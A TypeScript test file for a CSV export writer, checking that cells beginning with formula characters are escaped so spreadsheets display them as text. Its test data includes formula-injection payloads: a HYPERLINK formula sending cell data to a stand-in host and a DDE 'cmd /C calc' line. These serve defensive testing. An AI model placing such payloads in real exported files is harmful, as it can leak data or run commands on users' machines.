import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, spreadsheetText } from '../../src/report/csv.js';

const parse = (text: string) => Papa.parse<string[]>(text.trimEnd(), { header: false }).data;

describe('the one CSV writer', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"open")', `'=HYPERLINK("http://x.example/?"&A1,"open")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['-1+1', `'-1+1`],
    ['-2+3+cmd|x', `'-2+3+cmd|x`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['\n=1+1', `'\n=1+1`],
  ])('writes the text %j for a spreadsheet to show, not run', (text, shown) => {
    expect(spreadsheetText(text)).toBe(shown);
    const csv = csvText(['customer'], [[text]]);
    expect(parse(csv)[1]).toEqual([shown]);
  });

  it.each(['-5', '-1.5', '+3', '-1,250.50', '-3%', 'C2024001', '张三', 'a=b', ' =1'])(
    'leaves %j as it is: no formula starts it',
    (text) => {
      expect(spreadsheetText(text)).toBe(text);
    },
  );

  it('writes numbers as numbers, a negative one too', () => {
    const csv = csvText(['customer', 'score', 'change'], [['-1+1', -1.5, -5]]);
    expect(csv).toBe(`customer,score,change\r\n"'-1+1",-1.5,-5\r\n`);
  });

  it('ends every row, the last one too, with CRLF; quotes text with a comma, quote or line break', () => {
    expect(csvText(['a', 'b'], [['x,y', 'say "hi"\nthere']])).toBe('a,b\r\n"x,y","say ""hi""\nthere"\r\n');
  });

  it('writes a header alone, or nothing for a streamed chunk without rows', () => {
    expect(csvText(['a', 'b'], [])).toBe('a,b\r\n');
    expect(csvText(['a', 'b'], [], { header: false })).toBe('');
    expect(csvText(['a'], [['x']], { header: false })).toBe('x\r\n');
  });
});
